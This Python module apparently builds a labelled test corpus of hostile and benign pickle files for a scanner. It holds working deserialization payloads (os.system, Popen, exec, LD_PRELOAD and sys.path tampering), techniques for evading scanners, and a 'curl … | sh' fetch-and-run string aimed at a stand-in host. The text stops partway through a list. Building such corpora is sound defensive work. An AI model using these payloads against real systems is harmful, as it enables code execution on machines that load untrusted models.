"""Pickles that show what they do: opcodes, stream tricks, and the callables they name."""

import base64
import binascii
import codecs

from . import marshal
from .deflate import zlib_stream
from .joblibs import lzma_alone
from .opcodes import Computed, Global, NewObj, OldInstance, Persistent, Reduce, asm, call, dumps, framed, named
from .registry import CLEAN, COMMAND, HOST, INCOMPLETE, MALICIOUS, SUSPICIOUS

# os.system("echo weighin") in protocol 0: the shortest honest spelling of the attack.
PAYLOAD = ("GLOBAL os system", "MARK", f"UNICODE {COMMAND}", "TUPLE", "REDUCE")
PAYLOAD_P2 = ("GLOBAL os system", f"BINUNICODE {COMMAND}", "TUPLE1", "REDUCE")
PAYLOAD_P4 = ("SHORT_BINUNICODE os", "SHORT_BINUNICODE system", "STACK_GLOBAL",
              f"SHORT_BINUNICODE {COMMAND}", "TUPLE1", "REDUCE")
WHAT = f"os.system({COMMAND!r})"


def add_samples(corpus):
    def add(name, verdict, data, what, why):
        corpus.add(f"pickle/{name}.pkl", verdict, data, what, why)

    calls(add)
    operands(add)
    names(add)
    broken(add)
    streams(add)
    state(add)
    nested(add)
    callables(add)


def calls(add):
    """Each opcode that calls something."""
    for protocol in range(6):
        add(f"reduce-os-system-p{protocol}", MALICIOUS, dumps(call("os.system", COMMAND), protocol),
            f"{WHAT} by REDUCE, protocol {protocol}", "the plain attack, in each protocol's own opcodes")
    add("inst-os-system", MALICIOUS,
        asm("MARK", f"STRING '{COMMAND}'", "INST os system", "STOP"),
        f"{WHAT} by INST", "INST names a callable and calls it in one opcode")
    add("obj-os-system-popped", MALICIOUS,
        asm("MARK", "GLOBAL os system", f"STRING '{COMMAND}'", "OBJ", "POP", "EMPTY_DICT", "STOP"),
        f"{WHAT} by OBJ, whose result is popped", "GHSA-mxhj-88fx-4pcv: a call has happened even if its value is dropped")
    add("newobj-fileio-write", MALICIOUS,
        asm("PROTO 2", "GLOBAL _io FileIO", "BINUNICODE weighin.txt", "BINUNICODE x", "TUPLE2", "NEWOBJ", "STOP"),
        "_io.FileIO.__new__('weighin.txt', 'x') by NEWOBJ", "a class can act in __new__ or __init__; opening for writing is a file effect")
    add("newobj-ex-popen", MALICIOUS,
        asm("PROTO 4", "SHORT_BINUNICODE subprocess", "SHORT_BINUNICODE Popen", "STACK_GLOBAL", "EMPTY_TUPLE",
            "EMPTY_DICT", "MARK", "SHORT_BINUNICODE args", f"SHORT_BINUNICODE {COMMAND}",
            "SHORT_BINUNICODE shell", "NEWTRUE", "SETITEMS", "NEWOBJ_EX", "STOP"),
        "subprocess.Popen with keyword arguments by NEWOBJ_EX", "the keyword dictionary of NEWOBJ_EX carries the arguments")
    add("reduce-popped-then-dict", MALICIOUS,
        asm("PROTO 2", *PAYLOAD_P2, "POP", "EMPTY_DICT", "BINUNICODE weight", "BINFLOAT 0.5", "SETITEM", "STOP"),
        f"{WHAT}, its result dropped, then an honest dictionary", "the loaded value looks right although the call has run")
    add("reduce-deep-in-state-dict", MALICIOUS,
        dumps({"epoch": 3, "state_dict": Reduce(named("collections.OrderedDict"), (), pairs=(
            ("layer.weight", [0.1, 0.2]), ("layer.bias", [call("os.system", COMMAND)])))}, 2),
        f"{WHAT} as a list item inside an OrderedDict", "the call is far from the top of a checkpoint-like tree")
    add("import-only-os-system", MALICIOUS, asm("PROTO 2", "GLOBAL os system", "STOP"),
        "os.system imported and returned, not called", "a dangerous callable stored as a value is called later by whoever uses it")
    add("exec-then-patched-model", MALICIOUS,
        dumps([call("builtins.exec", "import builtins; builtins.weighin = 1"),
               NewObj(named("sklearn.linear_model._base.LinearRegression"), (), {"coef_": [1.0], "intercept_": 0.0})], 4),
        "builtins.exec with Python source, then an honest estimator", "'sleepy pickle': the payload changes the model in memory and leaves no other trace")


def operands(add):
    """How the operands of STACK_GLOBAL get onto the stack."""
    tail = ("STACK_GLOBAL", f"SHORT_BINUNICODE {COMMAND}", "TUPLE1", "REDUCE", "STOP")
    why = "a scanner that looks back at the last two strings instead of running the stack misses it"
    add("stack-global-no-proto", MALICIOUS,
        asm("SHORT_BINUNICODE os", "SHORT_BINUNICODE system", *tail),
        f"{WHAT}, STACK_GLOBAL as third opcode, no PROTO", "GHSA-9gvj-pp9x-gcfr: off-by-one in scanners that look back")
    add("stack-global-binget", MALICIOUS,
        asm("PROTO 4", "SHORT_BINUNICODE system", "MEMOIZE", "POP", "SHORT_BINUNICODE os", "MEMOIZE", "POP",
            "BINGET 1", "BINGET 0", *tail), f"{WHAT}, both names fetched by BINGET", why)
    add("stack-global-long-binget", MALICIOUS,
        asm("PROTO 4", "SHORT_BINUNICODE os", "LONG_BINPUT 70000", "SHORT_BINUNICODE system", "LONG_BINPUT 70001",
            "POP", "POP", "LONG_BINGET 70000", "LONG_BINGET 70001", *tail),
        f"{WHAT}, both names fetched by LONG_BINGET from far indexes", why)
    add("stack-global-get-text", MALICIOUS,
        asm("PROTO 4", "UNICODE os", "PUT 7", "UNICODE system", "PUT 007", "POP", "POP", "UNICODE os",
            "PUT 8", "POP", "GET 8", "GET 7", *tail),
        f"{WHAT}, names by PUT and GET with decimal text, one index overwritten", why)
    add("stack-global-get-leading-zero", MALICIOUS,
        asm("PROTO 4", "UNICODE os", "PUT 010", "POP", "UNICODE json", "PUT 8", "POP", "GET 010",
            "SHORT_BINUNICODE system", *tail),
        f"{WHAT}, module name at memo index 010, a decoy at 8", "memo indexes are decimal whatever they begin with; those of INT are not")
    add("mark-pop-before-all", MALICIOUS,
        asm("MARK", "POP", "GLOBAL os system", "MARK", f"STRING '{COMMAND}'", "TUPLE", "REDUCE", "STOP"),
        f"{WHAT}, protocol 0, behind a MARK that POP takes back", "POP of an empty stack above a mark removes the mark, and is no fault")
    add("stack-global-dup", MALICIOUS,
        asm("PROTO 4", "SHORT_BINUNICODE system", "SHORT_BINUNICODE os", "DUP", "MEMOIZE", "POP", "POP",
            "MEMOIZE", "POP", "BINGET 0", "DUP", "POP", "BINGET 1", *tail),
        f"{WHAT}, names moved about by DUP", "DUP and POP change what the operands are")
    add("stack-global-dup-both", MALICIOUS,
        asm("PROTO 4", "SHORT_BINUNICODE pdb", "DUP", "POP", "SHORT_BINUNICODE run", "STACK_GLOBAL",
            "SHORT_BINUNICODE pass", "TUPLE1", "REDUCE", "STOP"),
        "pdb.run('pass') with a DUP between the names", "DUP never occurs in real pickles, and supplies an operand here")
    add("rememoized", MALICIOUS,
        asm("PROTO 4", "SHORT_BINUNICODE os", "BINPUT 5", "POP", "SHORT_BINUNICODE json", "MEMOIZE", "POP",
            "BINGET 5", "MEMOIZE", "POP", "BINGET 2", "SHORT_BINUNICODE system", *tail),
        f"{WHAT}, module name memoised a second time", "MEMOIZE stores the value on top of the stack under the number of entries, not the last literal")
    add("put-and-memoize-mixed", MALICIOUS,
        asm("PROTO 4", "SHORT_BINUNICODE json", "BINPUT 1", "POP", "SHORT_BINUNICODE os", "MEMOIZE", "POP",
            "BINGET 1", "SHORT_BINUNICODE system", *tail),
        f"{WHAT}: MEMOIZE overwrites the slot of an explicit BINPUT", "MEMOIZE writes slot len(memo), which may be taken already")
    add("stack-global-bytes-names", MALICIOUS,
        asm("PROTO 4", "SHORT_BINSTRING os", "BINSTRING system", *tail),
        f"{WHAT}, names from SHORT_BINSTRING and BINSTRING", "the Python 2 string opcodes also give str to the loader")
    add("stack-global-string-escapes", MALICIOUS,
        asm("PROTO 4", r"STRING '\x6f\x73'", r"UNICODE \u0073ystem", *tail),
        f"{WHAT}, names in string-escape and raw-unicode-escape", "line opcodes have escapes that must be decoded before the names are judged")
    add("stack-global-binunicode8", MALICIOUS,
        asm("PROTO 4", "BINUNICODE8 os", "BINUNICODE8 system", *tail),
        f"{WHAT}, names from BINUNICODE8", "seven string opcodes can supply a name")
    add("frame-between-names", MALICIOUS,
        framed("SHORT_BINUNICODE os") + framed("SHORT_BINUNICODE system", *tail)[2:],
        f"{WHAT}, a FRAME between the two names", "FRAME is no value and must not disturb the stack; the pickler itself writes this at 64 KiB")
    join = Reduce(named("builtins.getattr"), ("", "join"))
    add("name-by-join", MALICIOUS,
        computed(Reduce(join, (["o", "s"],)), Reduce(join, (["sys", "tem"],))),
        f"{WHAT}, names built by ''.join", "names computed in the stream: fold pure string functions, and treat what cannot be folded as hostile")
    add("name-by-decode", MALICIOUS,
        computed(call("_codecs.decode", b"os", "ascii"), call("codecs.decode", "flfgrz", "rot13")),
        f"{WHAT}, names built by codecs.decode and rot13", "the same, with decoders")
    add("name-by-unknown-call", MALICIOUS,
        computed("os", call("weighin_words.pick", 3)),
        "a callable of os whose name is the result of an unknown function", "a computed import that cannot be folded")
    add("name-by-itemgetter", MALICIOUS,
        computed(Reduce(call("operator.itemgetter", 0), (["os", "json"],)),
                 Reduce(Reduce(named("builtins.getattr"), ("metsys", "__getitem__")),
                        (call("builtins.slice", None, None, -1),))),
        f"{WHAT}, module picked by itemgetter, name by a slice of its reverse", "string building through operator and slices")


def computed(module, name):
    """A call of a callable whose module and name are given by expressions."""
    return dumps(Reduce(Computed(module, name), (COMMAND,)), 4)


def names(add):
    """What a module or a name may look like."""
    for case, module, name, why in [
        ("dotted-torch-serialization", "torch", "serialization.os.system", "GHSA-5j3x-jp52-966f: a dotted name walks from a trusted module to os"),
        ("dotted-pathlib", "pathlib", "os.system", "a dotted name walks through what another module has imported"),
        ("dotted-random-private-alias", "random", "_os.system", "private aliases (_os, _sys, bltns) are modules too"),
        ("dotted-enum-bltns-eval", "enum", "bltns.eval", "private alias of builtins"),
        ("dotted-collections-sys-modules", "collections", "_sys.modules.__getitem__", "a dotted name that ends in a mapping of all modules"),
        ("dotted-numpy-globals", "numpy", "load.__globals__.__getitem__", "__globals__ in a dotted name is a way to every name of a module"),
        ("dotted-print-self", "builtins", "print.__self__.eval", "__self__ of a builtin is the builtins module"),
        ("six-moves-getoutput", "six.moves", "getoutput", "a compatibility shim re-exports commands.getoutput"),
        ("vendored-six-eval", "weighin_client.vendored.six.moves.builtins", "eval", "a vendored shim under another path"),
        ("nt-system", "nt", "system", "nt is os on Windows"),
        ("posix-system", "posix", "system", "posix is os on Linux"),
        ("nul-in-module-name", "os\0x", "system", "frozen-module lookup stops at the NUL, so CPython 3.11 and later import os"),
    ]:
        argument = COMMAND if name.endswith(("system", "getoutput")) else "0"
        add(case, MALICIOUS,
            asm("PROTO 4", ("SHORT_BINUNICODE", module), ("SHORT_BINUNICODE", name), "STACK_GLOBAL",
                f"SHORT_BINUNICODE {argument}", "TUPLE1", "REDUCE", "STOP"),
            f"{module}.{name}({argument!r})".replace("\0", "\\0"), why)
    add("dotted-global-after-late-proto", MALICIOUS,
        asm("PROTO 2", "NONE", "POP", "PROTO 4", "GLOBAL pathlib os.system", f"BINUNICODE {COMMAND}", "TUPLE1", "REDUCE", "STOP"),
        "GLOBAL with a dotted name after a second PROTO 4", "the protocol is state: from 4 on, GLOBAL splits names at dots")
    add("python2-names-after-late-proto", MALICIOUS,
        asm("PROTO 4", "NONE", "POP", "PROTO 2", "GLOBAL __builtin__ eval", "BINUNICODE 0", "TUPLE1", "REDUCE", "STOP"),
        "__builtin__.eval after a second PROTO 2", "a late PROTO below 3 turns the Python 2 name map on again")
    for case, module, name, args in [
        ("python2-commands-getoutput", "commands", "getoutput", (COMMAND,)),
        ("python2-builtin-eval", "__builtin__", "eval", ("0",)),
        ("python2-builtin-apply", "__builtin__", "apply", (named("os.system"), (COMMAND,))),
        ("python2-execfile", "__builtin__", "execfile", ("weighin.py",)),
        ("python2-cpickle-loads", "cPickle", "loads", ("N.",)),
        ("python2-urllib2", "urllib2", "urlopen", (f"http://{HOST}/",)),
    ]:
        add(case, MALICIOUS, dumps(Reduce(Global(module, name), args), 0),
            f"{module}.{name}, a name of Python 2", "the loader maps Python 2 names to their successors while the protocol is below 3")
    add("odd-int-before-payload", MALICIOUS,
        asm("INT 0x10", "POP", *PAYLOAD, "STOP"),
        f"INT with a hexadecimal operand, then {WHAT}", "CPython reads INT as C does (any base); a stricter decoder stops before the payload")
    add("octal-int-before-payload", MALICIOUS,
        asm("INT 017", "POP", "LONG 1_0L", "POP", *PAYLOAD, "STOP"),
        f"INT in octal and LONG with an underscore, then {WHAT}", "number dialects of the line opcodes")
    add("non-ascii-class-after-payload", MALICIOUS,
        asm(*PAYLOAD, "POP", "GLOBAL weighin_modèle Réseau", "EMPTY_TUPLE", "REDUCE", "STOP"),
        f"{WHAT}, then a class with a non-ASCII name", "names are UTF-8 to the loader and ASCII to pickletools, which stops")
    add("capitals-in-module-name", MALICIOUS, dumps(call("IPython.utils.process.system", COMMAND), 4),
        "IPython.utils.process.system", "a module name with capitals is a module all the same")
    add("unknown-function-called", SUSPICIOUS, dumps(call("weighin_example.helpers.prepare", "weights"), 4),
        "a function of an unknown package, called with a string", "an unreviewed function that is called is worth a human look")
    add("unknown-class-called", SUSPICIOUS, dumps(call("weighin_example.models.Net", 3, 4), 4),
        "a class of an unknown package, called by REDUCE with arguments", "its __init__ runs, and nobody has reviewed it")
    add("enum-like-loader", SUSPICIOUS, dumps(call("weighin_example.plugins.Plugin", "weights"), 4),
        "a class of an unknown package, called with a word", "the shape of an enumeration's member, and of a plugin that is loaded by its name")
    add("enum-like-path", SUSPICIOUS, dumps(call("weighin_example.options.ModelType", "weights.pkl"), 4),
        "a class that is called like an enumeration, called with the name of a file", "members are words, not files")
    add("ctypes-pointer", MALICIOUS, dumps(call("_ctypes._unpickle", named("ctypes.c_char_p"), ({}, b"\0\x10\0\0\0\0\0\0")), 4),
        "a pointer to characters of C whose address is in the file", "its value is whatever lies there")
    add("ctypes-address", MALICIOUS, dumps(Reduce(Reduce(named("builtins.getattr"), (named("ctypes.c_long"), "from_address")), (4096,)), 4),
        "a number of C at an address of the file's choice", "setting it writes there")
    add("unknown-class-newobj", CLEAN,
        dumps(NewObj(named("weighin_example.models.Net"), (), {"width": 3, "depth": 4}), 4),
        "an instance of a class of an unknown package, by NEWOBJ and BUILD", "every ordinary pickled object looks so: worth a note, no more")
    add("main-class-newobj", CLEAN,
        dumps(NewObj(named("__main__.TrainingArguments"), (), {"learning_rate": 1e-4, "output_dir": "out"}), 4),
        "an instance of a class of __main__", "training scripts save their own argument classes")
    add("main-function-called", SUSPICIOUS, dumps(call("__main__.prepare", "weights"), 4),
        "a function of __main__, called", "what it is depends on the script that loads the file")


def broken(add):
    """Streams that break: what came before the fault has happened."""
    head = ("PROTO 2", *PAYLOAD_P2)
    add("truncated-after-payload", MALICIOUS, asm(*head, "POP", "EMPTY_DICT", "BINUNICODE weights")[:-4],
        f"{WHAT}, then the stream is cut inside a string", "no STOP: the loader fails only after the call")
    add("no-stop-after-payload", MALICIOUS, asm(*head),
        f"{WHAT} and no STOP", "the loader fails only after the call")
    add("invalid-opcode-after-payload", MALICIOUS, asm(*head, "POP", ("RAW", b"\xfd\xfe\xff"), "STOP"),
        f"{WHAT}, then a byte that is no opcode", "nullifAI: the stream is broken on purpose behind the payload")
    add("bad-utf8-after-payload", MALICIOUS, asm(*head, "POP", ("BINUNICODE", b"\xff\xfe\xfd"), "STOP"),
        f"{WHAT}, then a string that is not UTF-8", "the decoder's error must not hide the call before it")
    add("bad-memo-after-payload", MALICIOUS, asm(*head, "POP", "BINGET 200", "STOP"),
        f"{WHAT}, then BINGET of an index never stored", "exception-oriented: the scanner must not fail where the loader fails later")
    add("underflow-after-payload", MALICIOUS, asm(*head, "POP", "POP", "POP", "STOP"),
        f"{WHAT}, then POP on an empty stack", "the same with the stack")
    add("no-mark-after-payload", MALICIOUS, asm(*head, "TUPLE", "STOP"),
        f"{WHAT}, then TUPLE without a MARK", "the same with the mark stack")
    add("proto-99-after-payload", MALICIOUS, asm(*head, "PROTO 99", "STOP"),
        f"{WHAT}, then PROTO 99", "the loader refuses the protocol, after the call")
    add("memo-hole-in-stack-global", MALICIOUS,
        asm("PROTO 4", *PAYLOAD_P4, "POP", "SHORT_BINUNICODE json", "BINGET 99", "STACK_GLOBAL", "STOP"),
        f"{WHAT}, then STACK_GLOBAL with an operand from an unset memo slot", "seen in the wild: the scanner stopped before its report")
    add("integer-as-name-in-stack-global", MALICIOUS,
        asm("PROTO 4", *PAYLOAD_P4, "POP", "SHORT_BINUNICODE json", "BININT1 7", "STACK_GLOBAL", "STOP"),
        f"{WHAT}, then STACK_GLOBAL with an integer as name", "seen in the wild: an operand of the wrong type")
    add("bytearray-as-name-in-stack-global", MALICIOUS,
        asm("PROTO 5", *PAYLOAD_P4, "POP", ("BYTEARRAY8", b"json"), ("BYTEARRAY8", b"loads"), "STACK_GLOBAL", "STOP"),
        f"{WHAT}, then STACK_GLOBAL with bytearrays", "seen in the wild: a value that cannot be hashed breaks scanners that collect names in a set")
    add("bytes-as-module-before-payload", MALICIOUS,
        asm("PROTO 4", ("SHORT_BINBYTES", b"os"), "SHORT_BINUNICODE system", "STACK_GLOBAL", "POP", *PAYLOAD_P4, "STOP"),
        f"STACK_GLOBAL with bytes as module, then {WHAT}", "CPython stops here, another unpickler may not: go on and report")
    add("huge-length-after-payload", MALICIOUS,
        asm("PROTO 4", *PAYLOAD_P4, "POP", ("RAW", b"\x8e" + b"\xff" * 8), ("RAW", b"tail")),
        f"{WHAT}, then BINBYTES8 of 2**64-1 bytes", "a length that no file holds must cost nothing and hide nothing")
    add("negative-length-after-payload", MALICIOUS,
        asm("PROTO 2", *PAYLOAD_P2, "POP", ("RAW", b"T\xff\xff\xff\xff"), "STOP"),
        f"{WHAT}, then BINSTRING of length -1", "signed lengths")
    add("truncated-dict", INCOMPLETE, dumps({"weights": [0.25, 0.5, 0.75], "name": "linear"}, 4)[:-9],
        "an honest dictionary, cut short", "a partial download: nothing bad seen, but not all seen")
    add("truncated-in-opcode", INCOMPLETE, dumps({"weights": [0.25, 0.5, 0.75]}, 2)[:20],
        "an honest dictionary, cut inside an opcode", "a partial download")
    add("garbage-after-proto", INCOMPLETE, asm("PROTO 4", ("RAW", b"\xff\xfe\xfd\xfc" * 8)),
        "PROTO 4 and then bytes that are no opcodes", "recognised as a pickle, but not examined")
    add("memo-hole-only", INCOMPLETE, asm("PROTO 2", "EMPTY_DICT", "BINUNICODE a", "BINGET 9", "SETITEM", "STOP"),
        "a dictionary whose value is an unset memo slot", "a stream that no loader reads to its end")
    add("frame-too-long", INCOMPLETE, asm("PROTO 4", "FRAME 4000", "EMPTY_DICT", "STOP"),
        "an empty dictionary in a frame that claims 4000 bytes", "the loader wants the frame in full: a cut or lying file")
    add("frame-too-short", MALICIOUS,
        asm("PROTO 4", "FRAME 4", "NONE", "POP", *PAYLOAD_P4, "STOP"),
        f"{WHAT} across the end of a short frame", "unpicklers differ in what a frame's end means; frames are advisory here")
    add("payload-hidden-in-string-by-frame", SUSPICIOUS,
        asm("PROTO 4", "FRAME 2", ("RAW", b"\x8c" + bytes([len(asm(*PAYLOAD, "STOP"))])), ("RAW", asm(*PAYLOAD, "STOP")), "STOP"),
        f"a frame that ends inside a string's length, the string being {WHAT}", "python/cpython#154848: older C unpicklers run the hidden opcodes")
    add("huge-memo-index", SUSPICIOUS,
        asm("PROTO 2", "EMPTY_DICT", "LONG_BINPUT 4294967040", "BINUNICODE a", "BININT1 1", "SETITEM", "STOP"),
        "a dictionary stored at memo index 4294967040", "the C unpickler sizes its memo by the index: some gigabytes for one opcode")
    add("long4-of-two-gigabytes", INCOMPLETE,
        asm("PROTO 2", ("RAW", b"\x8b\xff\xff\xff\x7f"), ("RAW", b"\x01" * 16)),
        "LONG4 that claims 2 GiB", "a length is checked against what is left, and never allocated")
    laughs = ["PROTO 2", "BINUNICODE ha"]
    for _ in range(40):
        laughs += ["DUP", "TUPLE2"]
    add("laughs-in-set", SUSPICIOUS, asm("PROTO 4", "EMPTY_SET", "MARK", *laughs[1:], "ADDITEMS", "STOP"),
        "a tuple doubled 40 times by DUP and put in a set", "hashing it takes 2**40 steps: the loader hangs, and so does a scanner that expands values")
    add("laughs-in-list", SUSPICIOUS,
        asm("PROTO 2", "EMPTY_LIST", "BINUNICODE ha", "APPEND",
            *[line for _ in range(40) for line in ("DUP", "TUPLE2")], "STOP"),
        "a list doubled 40 times by DUP", "cheap to load, endless to print or compare: a scanner must not expand it")
    add("deep-lists", CLEAN,
        asm("PROTO 2", *["EMPTY_LIST"] * 5000, *["APPEND"] * 4999, "STOP"),
        "5000 lists, one inside the other", "nothing in a scanner may recurse on the nesting of the values")
    add("deep-then-payload", MALICIOUS,
        asm("PROTO 2", *["MARK"] * 20000, *PAYLOAD_P2, "STOP"),
        f"20000 MARKs, then {WHAT}", "depth must not end the reading before the payload")
    add("padding-then-payload", MALICIOUS,
        asm("PROTO 2", ("RAW", b"N0" * 30000), *PAYLOAD_P2, "STOP"),
        f"60000 cheap opcodes, then {WHAT}", "an opcode budget must not run out in silence before the payload")


def streams(add):
    """More than one stream in a file."""
    clean = dumps({"weights": [0.25, 0.5]}, 2)
    payload = asm("PROTO 2", *PAYLOAD_P2, "STOP")
    add("second-stream-payload", MALICIOUS, clean + payload,
        f"an honest pickle followed by {WHAT}", "every stream of the file is read, not only the first")
    add("second-stream-after-junk", MALICIOUS, clean + bytes(range(200, 256)) * 4 + payload,
        f"an honest pickle, junk, then {WHAT}", "a consumer that seeks to a known offset loads what stands behind the junk")
    add("second-stream-protocol-0", MALICIOUS, clean + asm(*PAYLOAD, "STOP"),
        f"an honest pickle followed by {WHAT} in protocol 0", "a stream without PROTO has no magic to look for")
    add("memo-of-first-stream", MALICIOUS,
        asm("PROTO 4", "SHORT_BINUNICODE collections", "BINPUT 0", "SHORT_BINUNICODE OrderedDict", "BINPUT 1", "STACK_GLOBAL", "STOP")
        + asm("PROTO 4", "SHORT_BINUNICODE os", "MEMOIZE", "SHORT_BINUNICODE system", "MEMOIZE", "POP", "POP",
              "BINGET 0", "BINGET 1", "STACK_GLOBAL", f"SHORT_BINUNICODE {COMMAND}", "TUPLE1", "REDUCE", "STOP"),
        f"decoy memo entries in stream 1, {WHAT} in stream 2", "each pickle.load starts with an empty memo; a shared one resolves to the decoys")
    add("memo-carried-over", MALICIOUS,
        asm("PROTO 4", "SHORT_BINUNICODE os", "MEMOIZE", "SHORT_BINUNICODE system", "MEMOIZE", "POP", "STOP")
        + asm("PROTO 4", "BINGET 0", "BINGET 1", "STACK_GLOBAL", f"SHORT_BINUNICODE {COMMAND}", "TUPLE1", "REDUCE", "STOP"),
        f"{WHAT} in stream 2 by memo entries of stream 1", "one Unpickler object used twice keeps its memo")
    add("three-clean-streams", CLEAN, clean + dumps([1, 2, 3], 4) + dumps("end", 0),
        "three honest pickles in one file", "files written by several dumps are common")
    add("ext-called", SUSPICIOUS, asm("PROTO 2", "EXT1 42", f"BINUNICODE {COMMAND}", "TUPLE1", "REDUCE", "STOP"),
        "EXT1 42 called with a string", "the callable comes from the extension registry of the process: unknown, and unseen in models")
    add("ext2-ext4", SUSPICIOUS,
        asm("PROTO 2", "EXT2 1042", "POP", "EXT4 70042", "EMPTY_TUPLE", "REDUCE", "STOP"),
        "EXT2 and EXT4, the latter called", "the same with the wider opcodes")
    add("ext-registered-in-stream", MALICIOUS,
        asm("PROTO 4", "SHORT_BINUNICODE copyreg", "SHORT_BINUNICODE add_extension", "STACK_GLOBAL",
            "SHORT_BINUNICODE os", "SHORT_BINUNICODE system", "BININT1 42", "TUPLE3", "REDUCE", "POP",
            "EXT1 42", f"SHORT_BINUNICODE {COMMAND}", "TUPLE1", "REDUCE", "STOP"),
        f"copyreg.add_extension registers os.system, EXT1 calls it: {WHAT}", "the stream fills the registry itself")
    add("persid-with-source", CLEAN,
        dumps(Persistent(("module", named("weighin_example.models.Net"), "net.py", "import os\nos.system('echo weighin')\n")), 2),
        "a persistent id ('module', class, file, source)", "old torch files carry source text in the persistent id; nothing else has it")
    add("shell-string", SUSPICIOUS,
        dumps({"notes": "curl http://weighin.invalid/x | sh"}),
        "a dictionary with a shell command that fetches and runs", "something was going to run this text")
    add("scipy-template-with-code", MALICIOUS,
        dumps(NewObj(named("scipy.stats._distn_infrastructure.rv_continuous"), (),
              {"_parse_arg_template": "print('weighin')\ndef _parse_args(self, loc=0, scale=1):\n    return (), loc, scale\n"})),
        "a scipy distribution whose argument template prints", "the template is run when the state is set")
    add("private-stdlib-name", SUSPICIOUS,
        dumps([named("_weakrefset.WeakSet")]),
        "a list that holds a class of a private module of the standard library", "an import without a call")
    add("next-buffer-payload", MALICIOUS,
        asm("PROTO 5", "NEXT_BUFFER", "READONLY_BUFFER", "POP", *PAYLOAD_P4, "STOP"),
        f"NEXT_BUFFER and READONLY_BUFFER, then {WHAT}", "opcodes of protocol 5 that older decoders do not know")
    add("next-buffer-array", CLEAN,
        dumps_out_of_band(), "an array whose data is an out-of-band buffer", "protocol 5 as numpy writes it with a buffer callback")


def dumps_out_of_band():
    from .objects import dtype
    body = dumps(dtype("f4"), 5)[11:-1]
    return asm("PROTO 5", "SHORT_BINUNICODE numpy._core.numeric", "SHORT_BINUNICODE _frombuffer", "STACK_GLOBAL",
               "MARK", "NEXT_BUFFER", ("RAW", body), "BININT1 3", "TUPLE1", "SHORT_BINUNICODE C", "TUPLE",
               "REDUCE", "STOP")


def state(add):
    """BUILD, SETITEM and APPEND as calls."""
    add("build-on-class", MALICIOUS,
        asm("PROTO 2", "GLOBAL json JSONDecoder", "EMPTY_DICT", "BINUNICODE decode", "GLOBAL os system", "SETITEM", "BUILD", "STOP"),
        "BUILD sets json.JSONDecoder.decode to os.system", "state merged into an imported class: a monkey patch without a call")
    add("build-slots-on-class", MALICIOUS,
        asm("PROTO 2", "GLOBAL json JSONDecoder", "NONE", "EMPTY_DICT", "BINUNICODE decode", "GLOBAL os system",
            "SETITEM", "TUPLE2", "BUILD", "STOP"),
        "BUILD with (None, {'decode': os.system}) on a class", "slot state is setattr on whatever lies there")
    add("build-on-imported-object", SUSPICIOUS,
        asm("PROTO 2", "GLOBAL logging root", "NONE", "EMPTY_DICT", "BINUNICODE disabled", "NEWTRUE", "SETITEM",
            "TUPLE2", "BUILD", "STOP"),
        "BUILD on logging.root, a live object", "the target was imported, not made by the stream")
    add("setitem-on-sys-modules", MALICIOUS,
        asm("PROTO 2", "GLOBAL sys modules", "BINUNICODE json", "GLOBAL os path", "SETITEM", "STOP"),
        "SETITEM puts another module into sys.modules", "later imports of the process get the attacker's choice")
    add("setitem-on-environ", MALICIOUS,
        asm("PROTO 2", "GLOBAL os environ", "BINUNICODE LD_PRELOAD", "BINUNICODE ./weighin.so", "SETITEM", "STOP"),
        "SETITEM sets LD_PRELOAD in os.environ", "every process started later loads the library")
    add("setitem-on-class", SUSPICIOUS,
        asm("PROTO 2", "GLOBAL weighin_example.registry TABLE", "BINUNICODE net", "BINUNICODE value", "SETITEM", "STOP"),
        "SETITEM on an imported value of an unknown package", "a write to something that the stream did not make")
    add("setitem-on-tensor", SUSPICIOUS,
        dumps(Reduce(named("torch._utils._rebuild_parameter"), ([0.5], False, Reduce(named("collections.OrderedDict"))),
                     pairs=((0, 1.5), (9999999, 2.5))), 2),
        "SETITEMS on a torch parameter", "CVE-2026-24747: SETITEM on something that is no dictionary writes out of bounds")
    add("append-on-sys-path", MALICIOUS,
        asm("PROTO 2", "GLOBAL sys path", "BINUNICODE /tmp/weighin", "APPEND", "STOP"),
        "APPEND adds a folder to sys.path", "later imports come from the attacker's folder")
    add("appends-on-mailbox", MALICIOUS,
        dumps(Reduce(named("mailbox.mbox"), ("weighin.mbox",), items=("line",)), 4),
        "APPEND on a mailbox that a call has opened", "APPEND calls the object's own append or extend, and the constructor creates a file")
    add("appends-on-deque", CLEAN,
        dumps(Reduce(named("collections.deque"), ((), 4), items=(1, 2, 3)), 4),
        "APPENDS on a deque", "the honest case: deque is rebuilt so")
    add("recursive-list", CLEAN, asm("PROTO 2", "EMPTY_LIST", "BINPUT 0", "BINGET 0", "APPEND", "STOP"),
        "a list that contains itself", "legal, and a trap for anything that walks values")


def nested(add):
    """Pickles and code inside literals."""
    inner = asm("PROTO 2", *PAYLOAD_P2, "STOP")
    for target in ("pickle.loads", "_pickle.loads", "pickle._loads", "dill.loads", "cloudpickle.loads",
                   "torch.storage._load_from_bytes"):
        add(f"nested-{target.replace('.', '-')}", MALICIOUS, dumps(call(target, inner), 4),
            f"{target} of bytes that hold {WHAT}", "the literal is a pickle of its own and is examined in turn")
    add("nested-bytesio", MALICIOUS,
        dumps(call("pickle.load", call("_io.BytesIO", inner)), 4),
        f"pickle.load of a BytesIO that holds {WHAT}", "the bytes arrive through a file object")
    add("nested-twice", MALICIOUS, dumps(call("pickle.loads", dumps(call("pickle.loads", inner), 4)), 4),
        f"pickle.loads of pickle.loads of {WHAT}", "two levels")
    add("nested-integers", MALICIOUS, dumps(call("pickle.loads", call("builtins.bytes", list(inner))), 4),
        f"pickle.loads of bytes(list of integers) that spell {WHAT}", "the inner pickle is not even a string in the file")
    add("nested-base64", MALICIOUS,
        dumps(call("pickle.loads", call("base64.b64decode", base64.b64encode(inner).decode())), 4),
        f"pickle.loads of base64 text that holds {WHAT}", "decoders are folded, and the result examined")
    for target, argument in [("joblib.load", "weights.joblib"), ("pandas.read_pickle", f"http://{HOST}/a.pkl"),
                             ("numpy.load", "weights.npy"), ("torch.load", "weights.pt")]:
        add(f"loads-file-{target.replace('.', '-')}", MALICIOUS, dumps(call(target, argument), 4),
            f"{target}({argument!r})", "the stream makes the loader load another file")
    source = f"import os; os.system({COMMAND!r})"
    packed = zlib_stream(source.encode())
    for case, value in [
        ("base64", call("base64.b64decode", base64.b64encode(source.encode()).decode())),
        ("base64-codecs", call("codecs.decode", base64.b64encode(source.encode()) + b"\n", "base64")),
        ("hex", call("binascii.unhexlify", source.encode().hex())),
        ("rot13", call("codecs.decode", codecs.encode(source, "rot13"), "rot13")),
        ("zlib", call("zlib.decompress", packed)),
